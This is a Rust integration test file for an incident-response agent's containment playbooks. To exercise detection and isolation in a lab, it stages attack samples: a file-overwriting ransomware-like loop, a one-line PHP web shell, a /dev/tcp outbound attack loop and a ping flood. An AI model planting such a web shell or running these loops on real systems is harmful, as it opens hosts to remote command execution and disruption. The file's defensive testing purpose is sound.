//! The playbooks that are shipped, each against what it is for, ordered by operators on a real wire; and what a playbook may not do.
#![expect(clippy::unwrap_used, reason = "tests fail loudly")]

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use picket_tests::cable::Cable;
use picket_tests::collector::Collector;
use picket_tests::named::NamedProcess;
use picket_tests::process::{output, stdout_of};
use picket_tests::site::{ATTACKER, COLLECTOR, Site, VICTIM, cable};
use picket_tests::{wait_for, wait_for_within};
use serde_json::Value;

/// All evidence of a host takes a while, on a machine that does other work.
const LONG: Duration = Duration::from_secs(240);

/// A site whose agent may use the disk, however full it is.
fn start<'a>(dir: &Path, cable: &'a Cable, collector: &'a Collector, policy: &str) -> Site<'a> {
    let disk = "[evidence]\nfree_bytes_min = \"1 MiB\"\nfree_percent_min = 0\n";
    Site::start_with(dir, cable, collector, policy, disk, &[])
}

/// Ends with the test.
struct Program(Child);

impl Program {
    fn start(mut command: Command) -> Self {
        Self(command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap())
    }

    fn named(&self) -> NamedProcess {
        NamedProcess::of(self.0.id())
    }

    /// What the kernel says that it does: `T` when it stands still.
    fn state(&self) -> char {
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", self.0.id())).unwrap();
        stat.rsplit(')').next().unwrap().trim_start().chars().next().unwrap()
    }
}

impl Drop for Program {
    fn drop(&mut self) {
        let _ended = self.0.kill();
        let _status = self.0.wait();
    }
}

fn process(named: &NamedProcess) -> Vec<String> {
    let set = |name: &str, value: &str| format!("{name}={value}");
    [set("pid", &named.pid), set("started", &named.started), set("program", &named.sha256)]
        .into_iter()
        .flat_map(|set| ["--set".to_owned(), set])
        .collect()
}

fn play(site: &Site<'_>, name: &str, more: &[String]) -> String {
    let more: Vec<&str> = more.iter().map(String::as_str).collect();
    site.play(name, &[&[name, "--lease", "10m"], more.as_slice()].concat())
}

fn owned(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

/// Local root ends it, and all is as before.
fn end(site: &Site<'_>, command: &str) {
    site.agent.run(&["release", command]);
    site.wait_whole(command, "released");
    assert_eq!(site.ruleset(), "");
    assert_eq!(site.pings(), [true, true]);
}

#[test]
fn ransomware_is_stopped_and_cut_off_and_evidence_passes_the_isolation() {
    let dir = tempfile::tempdir().unwrap();
    let cable = cable();
    let collector = Collector::start_on(dir.path(), COLLECTOR);
    let site = start(dir.path(), &cable, &collector, "");
    // It writes one file after the other over, and never ends.
    let at = site.agent.watched().join("documents");
    std::fs::create_dir(&at).unwrap();
    let loop_ =
        "n=0; while :; do n=$((n+1)); head -c 64 /dev/urandom >\"$1/$((n % 50)).locked\"; sleep 0.02; done";
    let mut writer = Command::new("bash");
    writer.args(["-c", loop_, "writer"]).arg(&at);
    let writer = Program::start(writer);
    wait_for("its first files", || at.join("5.locked").exists().then_some(()));
    let command = play(&site, "contain-ransomware", &process(&writer.named()));
    wait_for_within("all its evidence to be sealed", LONG, || {
        let outcomes = site.outcomes_of_step(&command, "preserve");
        assert!(!outcomes.contains(&"failed".to_owned()), "{outcomes:?}");
        outcomes.contains(&"applied".to_owned()).then_some(())
    });
    let whole = site.wait_whole(&command, "confirmed");
    assert!(whole["title"].as_str().unwrap().contains("6 succeeded"), "{whole}");
    assert_eq!(writer.state(), 'T', "it writes no more");
    assert_eq!(site.pings(), [false, false]);
    let scanned = site.wait_step(&command, "scan", "applied");
    assert!(scanned["title"].as_str().unwrap().starts_with("Step 5 of 6, scan: "), "{scanned}");
    preserved(&site, dir.path(), &command);
    assert_eq!((site.pings(), writer.state()), ([false, false], 'T'), "all the while it was cut off");

    // What people read.
    let commands = site.agent.run(&["commands"]);
    for line in ["succeeded freeze (freeze-process); in force", "succeeded isolate (isolate); in force"] {
        assert!(commands.contains(line), "{commands}");
    }
    let status = site.agent.command(&["status"]).output().unwrap();
    let status = String::from_utf8_lossy(&status.stdout);
    assert!(status.contains("contain-ransomware") && status.contains("6 steps"), "{status}");
    let shown = site.collector.soc(&["command", "show", &command]);
    assert!(shown.contains("playbook contain-ransomware"), "{shown}");
    // One step alone, by its act; then all of it.
    let act =
        site.wait_step(&command, "freeze", "confirmed")["body"]["step"]["act"].as_str().unwrap().to_owned();
    site.agent.run(&["release", &act]);
    wait_for("it to go on", || (writer.state() != 'T').then_some(()));
    assert_eq!(site.pings(), [false, false]);
    end(&site, &command);
}

/// Both bundles of a host that is cut off are at the collector, are what was sealed, and hold what they should.
fn preserved(site: &Site<'_>, dir: &Path, command: &str) {
    let identity = site.operators.identity();
    let at = |name: &str| dir.join(name).to_str().unwrap().to_owned();
    let several = output(&mut site.collector.soc_command(&["evidence", "get", command, "-o", &at("which")]));
    assert!(String::from_utf8_lossy(&several.stderr).contains("several bundles"), "{several:?}");
    for (step, inside) in [("memory", "memory/"), ("preserve", "network/tcp")] {
        wait_for_within("the evidence at the collector", LONG, || {
            let list = site.collector.soc_json(&["evidence", "list", "--all"]);
            let act = act_of(site, command, step);
            let is = |item: &&Value| item["command"] == act && item["playbook"] == command;
            list.iter().find(is).filter(|item| item["state"] == "complete").map(|_| ())
        });
        site.wait_step(command, step, "confirmed");
        let (act, sealed, opened) = (act_of(site, command, step), at("it.age"), at("it.tar.zst"));
        site.collector.soc(&["evidence", "get", &act, "-o", &sealed]);
        let witness = site.collector.witness();
        let verify = ["evidence", "verify", &sealed, "--witness", &witness, "--identity", &identity];
        let shown = site.collector.soc(&verify);
        assert!(shown.contains("files is what was sealed"), "{shown}");
        site.collector.soc(&["evidence", "get", &act, "-o", &opened, "--identity", &identity]);
        let names = stdout_of(Command::new("tar").args(["--zstd", "-tf", &opened]));
        assert!(names.contains(inside), "{names}");
    }
}

fn act_of(site: &Site<'_>, command: &str, step: &str) -> String {
    let receipt = site.wait_step(command, step, "applied");
    receipt.pointer("/body/step/act").and_then(Value::as_str).unwrap().to_owned()
}

#[test]
fn a_defaced_web_server_is_cut_off_and_the_page_taken_away() {
    let dir = tempfile::tempdir().unwrap();
    let cable = cable();
    let collector = Collector::start_on(dir.path(), COLLECTOR);
    let site = start(dir.path(), &cable, &collector, "");
    let root = site.agent.watched().canonicalize().unwrap();
    std::fs::write(root.join("index.html"), "hello").unwrap();
    let mut server = site.on_victim(&["python3", "-m", "http.server", "8080", "--bind", VICTIM]);
    server.current_dir(&root);
    let _server = Program::start(server);
    let get = |page: &str| {
        let url = format!("http://{VICTIM}:8080/{page}");
        let out = Command::new("curl").args(["-s", "-f", "-m", "5", &url]).output().unwrap();
        out.status.success().then(|| String::from_utf8(out.stdout).unwrap())
    };
    wait_for("the web server", || get("index.html"));
    let shell = "<?php system($_GET['c']); ?>";
    std::fs::write(root.join("shell.php"), shell).unwrap();
    wait_for("a finding about it", || {
        let found = collector.soc_json(&["findings", "--limit", "200"]);
        found.iter().any(|finding| finding.to_string().contains("shell.php")).then_some(())
    });
    assert_eq!(get("shell.php").as_deref(), Some(shell));

    let path = root.join("shell.php").to_str().unwrap().to_owned();
    let sum = Command::new("sha256sum").arg(&path).output().unwrap();
    let sha256 = String::from_utf8(sum.stdout).unwrap().split_whitespace().next().unwrap().to_owned();
    let sets = [format!("file={path}"), format!("sha256={sha256}"), format!("files={}", root.display())];
    let more = ["port=8080".to_owned(), "evidence=network,logins".to_owned()];
    let sets = sets.into_iter().chain(more).flat_map(|set| ["--set".to_owned(), set]);
    let command = play(&site, "contain-defacement", &sets.collect::<Vec<_>>());
    let whole = site.wait_whole(&command, "confirmed");
    assert!(whole["title"].as_str().unwrap().contains("5 succeeded"), "{whole}");
    assert_eq!(get("index.html"), None, "nobody sees it any more");
    assert!(!root.join("shell.php").exists() && root.join("index.html").exists());
    assert_eq!(site.pings(), [true, true], "the host goes on");
    end(&site, &command);
    assert_eq!(get("shell.php").as_deref(), Some(shell), "given back as it was");
}

#[test]
fn a_flood_is_limited_and_its_sender_blocked() {
    let dir = tempfile::tempdir().unwrap();
    let cable = cable();
    let collector = Collector::start_on(dir.path(), COLLECTOR);
    let site = start(dir.path(), &cable, &collector, "");
    let answered = |from: &str| {
        let flood = ["-q", "-c", "200", "-i", "0.005", "-W", "1", "-I", from, VICTIM];
        let out = Command::new("ping").args(flood).output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let received = text.split(',').find(|part| part.contains("received")).unwrap().trim().to_owned();
        received.split(' ').next().unwrap().parse::<u32>().unwrap()
    };
    assert_eq!(answered(ATTACKER), 200);
    let sets = ["--set", "protocol=icmp", "--set", "per-second=5", "--set", "evidence=network"];
    let command = play(&site, "contain-flood", &owned(&sets));
    site.wait_whole(&command, "confirmed");
    let limited = answered(ATTACKER);
    assert!((5..100).contains(&limited), "{limited} of 200 within a second or two");
    end(&site, &command);
    let from = format!("from={ATTACKER}");
    let command = play(&site, "contain-flood", &owned(&[&sets[..], &["--set", &from]].concat()));
    let whole = site.wait_whole(&command, "confirmed");
    assert!(whole["title"].as_str().unwrap().contains("4 succeeded"), "{whole}");
    assert_eq!(answered(ATTACKER), 0);
    end(&site, &command);
}

#[test]
fn a_host_that_attacks_others_is_stopped_or_cut_off() {
    let dir = tempfile::tempdir().unwrap();
    let cable = cable();
    let collector = Collector::start_on(dir.path(), COLLECTOR);
    let site = start(dir.path(), &cable, &collector, "");
    let attack = site.on_victim(&[
        "bash",
        "-c",
        "while :; do (echo x >/dev/tcp/10.199.0.1/9) 2>/dev/null; sleep 0.05; done",
    ]);
    let attack = Program::start(attack);
    // `ip netns exec` becomes the program.
    wait_for("the program", || attack.exe().ends_with("bash").then_some(()));
    let named = attack.named();
    let victims = owned(&["--set", &format!("victims={ATTACKER}"), "--set", "evidence=network"]);
    let command = play(&site, "contain-outbound-attack", &[process(&named), victims].concat());
    let whole = site.wait_whole(&command, "confirmed");
    assert!(whole["title"].as_str().unwrap().contains("5 succeeded, 1 skipped"), "{whole}");
    site.wait_step(&command, "isolate", "skipped");
    assert_eq!(attack.state(), 'T');
    assert_eq!(site.pings(), [false, false], "whom it attacked is out of its reach");
    end(&site, &command);

    // A process that cannot be stopped, since it is another one by now: the whole host.
    let wrong = NamedProcess { sha256: "00".repeat(32), ..named };
    let network = owned(&["--set", "evidence=network"]);
    let command = play(&site, "contain-outbound-attack", &[process(&wrong), network].concat());
    let whole = site.wait_whole(&command, "confirmed");
    assert!(whole["title"].as_str().unwrap().contains("3 succeeded, 2 failed"), "{whole}");
    site.wait_step(&command, "freeze", "failed");
    site.wait_step(&command, "isolate", "confirmed");
    assert_eq!(site.pings(), [false, false]);
    end(&site, &command);
}

impl Program {
    fn exe(&self) -> std::path::PathBuf {
        std::fs::read_link(format!("/proc/{}/exe", self.0.id())).unwrap_or_default()
    }
}

/// A playbook of the test's own.
fn own(dir: &Path, steps: &[(&str, &str)]) -> String {
    let mut text = "name = \"own\"\nsummary = \"of the test\"\n".to_owned();
    for (name, lines) in steps {
        text += &format!("[[steps]]\nname = \"{name}\"\ntimeout = \"60s\"\notherwise = \"stop\"\n{lines}\n");
    }
    let path = dir.join("own.toml");
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

const ISOLATE: (&str, &str) = ("isolate", "action = \"isolate\"\nlease = \"$lease\"");
const SCAN: (&str, &str) = ("scan", "action = \"scan\"\nwith = { paths = [] }");
const KEEP: (&str, &str) =
    ("keep", "action = \"preserve\"\nwith = { profiles = [\"network\"], paths = [] }\nlease = \"$lease\"");
const CLOSE: (&str, &str) =
    ("close", "action = \"close-port\"\nwith = { protocol = \"tcp\", port = 7007 }\nlease = \"$lease\"");

#[test]
fn a_step_that_the_host_does_not_allow_refuses_the_whole_before_anything_is_done() {
    let dir = tempfile::tempdir().unwrap();
    let cable = cable();
    let collector = Collector::start_on(dir.path(), COLLECTOR);
    // By the owner's policy two must sign that a port is closed; alice alone may order the rest.
    let site = start(dir.path(), &cable, &collector, "[signers]\nclose-port = 2\n");
    let file = own(dir.path(), &[ISOLATE, SCAN, CLOSE]);
    let command = site.play("own", &["--file", &file, "--lease", "10m"]);
    let refused = site.wait_whole(&command, "refused");
    assert!(refused["title"].as_str().unwrap().contains("step close: 1 operators signed"), "{refused}");
    assert_eq!(refused["check"], "local-policy", "{refused}");
    assert_eq!(site.outcomes(&command), ["refused"]);
    assert_eq!(site.ruleset(), "");
    assert_eq!(site.pings(), [true, true]);
    // Without that step it is done, and one step's lease that is over the role's bound refuses it again.
    let file = own(dir.path(), &[ISOLATE, SCAN]);
    let command = site.play("fine", &["--file", &file, "--lease", "10m"]);
    site.wait_whole(&command, "confirmed");
    end(&site, &command);
    let file = own(dir.path(), &[SCAN, ("isolate", "action = \"isolate\"\nlease = \"8d\"")]);
    let command = site.play("long", &["--file", &file, "--lease", "10m"]);
    let refused = site.wait_whole(&command, "refused");
    assert!(refused["title"].as_str().unwrap().contains("step isolate: the lease of"), "{refused}");
}

#[test]
fn a_playbook_outlives_kills_of_the_agent_and_does_no_step_twice() {
    let dir = tempfile::tempdir().unwrap();
    let cable = cable();
    let collector = Collector::start_on(dir.path(), COLLECTOR);
    let mut site = start(dir.path(), &cable, &collector, "");
    let file = own(dir.path(), &[ISOLATE, SCAN, KEEP, CLOSE]);
    for step in ["isolate", "scan", "keep", "close"] {
        let command = site.play(step, &["--file", &file, "--lease", "10m"]);
        // In that step, or just after it.
        wait_for(&format!("{step} to begin"), || {
            let row = site.agent.json(&["commands"]).into_iter().find(|row| row["id"] == command.as_str())?;
            let steps = row["steps"].as_array()?.iter();
            steps.into_iter().any(|own| own["name"] == step && own["state"] != "waiting").then_some(())
        });
        site.agent.kill();
        site.agent.resume();
        let whole = site.wait_whole(&command, "confirmed");
        assert!(whole["title"].as_str().unwrap().contains("4 succeeded"), "{whole}");
        // A piece that was under way when the agent was killed is asked for again after a minute without an answer.
        wait_for_within("the evidence to be confirmed", Duration::from_secs(150), || {
            let receipts = collector.soc_json(&["receipts", "--command", &command, "--full"]);
            let is_it = |receipt: &Value| {
                receipt["body"]["step"]["name"] == "keep" && receipt["outcome"] == "confirmed"
            };
            receipts.iter().any(is_it).then_some(())
        });
        let receipts = collector.soc_json(&["receipts", "--command", &command, "--full"]);
        let count = |step: &str, outcome: &str| {
            let is =
                |receipt: &&Value| receipt["body"]["step"]["name"] == step && receipt["outcome"] == outcome;
            receipts.iter().filter(is).count()
        };
        assert_eq!(
            [
                count("isolate", "confirmed"),
                count("scan", "applied"),
                count("keep", "applied"),
                count("keep", "confirmed"),
                count("close", "confirmed")
            ],
            [1; 5]
        );
        site.agent.wait_until_ready();
        end(&site, &command);
    }
    // Released while the agent is dead: no step follows when it comes back.
    let command = site.play("dead", &["--file", &file, "--lease", "10m"]);
    site.wait_step(&command, "isolate", "confirmed");
    site.agent.kill();
    site.agent.run(&["release", "--offline"]);
    assert_eq!(site.pings(), [true, true]);
    site.agent.resume();
    site.wait_whole(&command, "released");
    wait_for("nothing to be under way", || {
        let status = site.agent.status()?;
        let playbooks = status.pointer("/commands/playbooks")?.as_array()?.is_empty();
        (playbooks && site.ruleset().is_empty()).then_some(())
    });
    assert_eq!(site.pings(), [true, true]);
}
